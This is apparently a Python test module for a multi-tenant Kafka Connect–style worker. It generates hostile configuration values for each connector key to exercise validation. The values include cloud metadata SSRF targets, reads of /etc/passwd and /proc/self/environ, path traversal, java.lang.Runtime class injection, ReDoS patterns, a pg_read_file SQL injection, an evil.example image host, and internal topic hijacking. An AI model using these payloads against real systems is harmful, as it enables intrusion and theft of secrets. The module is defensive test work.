"""What a tenant may try who wants more than he was granted: a hostile value for every key of every connector's definition that
names topics, places, files, classes, patterns or texts for another program."""

from __future__ import annotations

import re
import secrets
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from cdcworker.connectors.config.definition import ConfigKey
from cdcworker.connectors.registry import names as registry
from cdcworker.worker.validation.validate import ConnectorCatalog

PATTERNS: Final = re.compile(r"regex|include\.list|exclude\.list|columns|pattern|whitelist|blacklist")
"""The definitions do not say which texts are patterns."""
EVIL_PATTERNS: Final = ("(a+)+$", ".*" * 2_000)
PLACES: Final = ("169.254.169.254", "http://169.254.169.254/latest", "d host=169.254.169.254 passfile=/etc/passwd")
CLASSES: Final = ("java.lang.Runtime", "os.system")
PAIRS: Final = {
    "warehouse.catalog.properties": (
        "hadoop.fs.file.impl=java.lang.Runtime", "io-impl=java.lang.Runtime", "client.factory=java.lang.Runtime",
        "fs.s3a.endpoint=http://169.254.169.254", "s3.endpoint=http://169.254.169.254", "table-override.location=/etc",
        "oauth2-server-uri=http://169.254.169.254/latest", "jdbc.sslrootcert=/etc/passwd", "catalog-impl=java.lang.Runtime",
    ),
    "spark.properties": (
        "spark.jars=/etc/passwd", "spark.files=/etc/passwd", "spark.plugins=java.lang.Runtime", "spark.eventLog.dir=/etc",
        "spark.driver.extraJavaOptions=-javaagent:/etc/passwd", "spark.hadoop.fs.file.impl=java.lang.Runtime",
        "spark.yarn.archive=http://169.254.169.254/a", "spark.kubernetes.container.image=evil.example/spark",
    ),
    "spark.archives": ("/etc/passwd#x", "http://169.254.169.254/a.tar.gz#environment"),
    "spark.master": ("spark://169.254.169.254:7077", "k8s://https://169.254.169.254", "local-cluster[2,1,1024]"),
}  # fmt: skip
PAIRS_OF: Final = {"warehouse.catalog.secrets": "warehouse.catalog.properties"}
CATALOG: Final = {
    "warehouse": "iceberg",
    "warehouse.path": "s3://b/lake",
    "warehouse.catalog": "rest",
    "warehouse.catalog.uri": "http://127.0.0.1:1",
}
CLIENT: Final = {"spark.launcher": "client", "spark.master": "spark://127.0.0.1:1", "spark.driver.host": "127.0.0.1"}
DATABASE: Final = {
    "warehouse": "postgres", "warehouse.path": "", "warehouse.hostname": "127.0.0.1", "warehouse.port": "1",
    "warehouse.user": "u", "warehouse.dbname": "d",
}  # fmt: skip
BUCKET: Final = {
    "warehouse": "parquet", "warehouse.path": "s3://bucket/lake", "warehouse.s3.endpoint": "http://127.0.0.1:1",
    "warehouse.s3.access.key": "k", "warehouse.s3.secret.key": "s",
}  # fmt: skip
OF_DATABASES: Final = ("hostname", "user", "password", "dbname", "ssl", "schema")
BESIDE: Final = {
    **{f"warehouse.{name}": DATABASE for name in OF_DATABASES},
    "warehouse.catalog": CATALOG,
    "warehouse.s3.": BUCKET,
    "spark.": CLIENT,
    "verify.": {"topics.regex": r"billing\..*"},
}
"""What a key needs beside it to have an effect, by the beginning of its name."""
SCHEDULES: Final = {"verify.interval.ms": ("1", "60000")}
"""Numbers by which the leader acts for a connector: one that is refused, and the shortest time after which it does."""
ROUTER: Final = {
    "transforms": "r", "transforms.r.type": "org.apache.kafka.connect.transforms.RegexRouter",
    "transforms.r.regex": "(.*)", "transforms.r.replacement": "shop-r",
}  # fmt: skip
OWN_TOPICS: Final = {"shop-in", ".*"}
"""Values by which a sink of the tenant has a topic."""
CHOSEN: Final = ("name", "connector.class", "transforms", "transforms.r.type")
"""What an attack is made of: another value is another attack, of another class."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One config. `key` is the key with the hostile value."""

    plugin: str
    key: ConfigKey
    config: Mapping[str, str]

    @property
    def has_driver(self) -> bool:
        """Whether its tasks take a driver of Spark, which takes seconds to start. Without a topic of the tenant there is no
        task."""
        return self.plugin == "spark" and bool(
            OWN_TOPICS & {self.config.get("topics"), self.config.get("topics.regex")}
        )

    @property
    def value(self) -> str:
        return self.config[self.key.name]

    @property
    def leads_elsewhere(self) -> bool:
        """Whether the definition says so."""
        return bool(self.key.topics or self.key.connects)


class Attacks:
    """All attacks of a tenant on a cluster with this group, whose connectors may use files in one folder only."""

    def __init__(self, group: str, folder: Path, open_folder: Path) -> None:
        self._group, self._folder, self._open = group, folder, open_folder

    def __iter__(self) -> Iterator[Attack]:
        catalog = ConnectorCatalog()
        for plugin in registry.plugins():
            more = ROUTER if plugin.kind == "source" else {}
            for key in catalog.definition(plugin).of({**self.base(plugin.name), **more}).keys.values():
                for value in self.values(key):
                    yield Attack(plugin.name, key, self._config(plugin.name, key, value))

    def base(self, plugin: str) -> dict[str, str]:
        """Returns an ordinary config of the tenant."""
        if plugin == "postgres":
            host = {
                "database.hostname": "127.0.0.1",
                "database.port": "1",
                "database.user": "u",
                "database.dbname": "d",
            }
            return {**host, "topic.prefix": "shop-p", "database.connect.timeout.ms": "2000"}
        if plugin == "datagen":
            return {"topic.prefix": "shop-d", "tables": "1", "rows.per.second": "5"}
        if plugin == "file":
            return {"file": str(self._open / "in.jsonl"), "topic": "shop-in"}
        if plugin == "file-sink":
            return {"file": str(self._open / f"{secrets.token_hex(4)}.jsonl"), "topics": "shop-in"}
        return {"topics": "shop-in", "warehouse": "parquet", "warehouse.path": str(self._open / "lake")}

    def _config(self, plugin: str, key: ConfigKey, value: str) -> dict[str, str]:
        beside = [more for beginning, more in BESIDE.items() if key.name.startswith(beginning)]
        routed = ROUTER if key.name.startswith("transforms") else {}
        config = {"connector.class": plugin, **self.base(plugin), **routed}
        for more in beside:
            config |= more
        config[key.name] = value
        if "topics.regex" in config:
            config.pop("topics", None)
        return {**config, "task.restart.max": "0"}

    def values(self, key: ConfigKey) -> Iterator[str]:
        """Yields the hostile values of a key; none of one that leads nowhere: a number, a choice, one without an effect."""
        if key.name in CHOSEN or not key.has_effect:
            return
        if key.topics == "pattern":
            yield from (".*", "(b+)+c", f"{self._group}.*", "billing.*")
        elif key.topics in ("prefix", "part", "heartbeats"):
            yield from (self._group, "billing", f"../{self._group}.configs")
        elif key.topics:
            yield from (f"{self._group}.configs", f"{self._group}.audit", "__consumer_offsets", "billing.public.x")
        elif (pairs := PAIRS_OF.get(key.name, key.name)) in PAIRS:
            yield from PAIRS[pairs]
        elif key.name in SCHEDULES:
            yield from SCHEDULES[key.name]
        elif key.type == "CLASS":
            yield from CLASSES
        elif key.type in ("STRING", "LIST", "PASSWORD") and not key.recommended:
            yield from self._texts(key)

    def _texts(self, key: ConfigKey) -> Iterator[str]:
        files = ("/etc/passwd", str(self._folder / "outside"), f"{self._open}/../outside", "/proc/self/environ")
        if PATTERNS.search(key.name):
            yield from EVIL_PATTERNS
        elif key.connects:
            yield from (*PLACES, *files)
        elif key.connects is None:
            # A name or a statement that another program gets.
            yield from (f"{self._group}.configs", "'; select pg_read_file('/etc/passwd'); --", "../../outside")
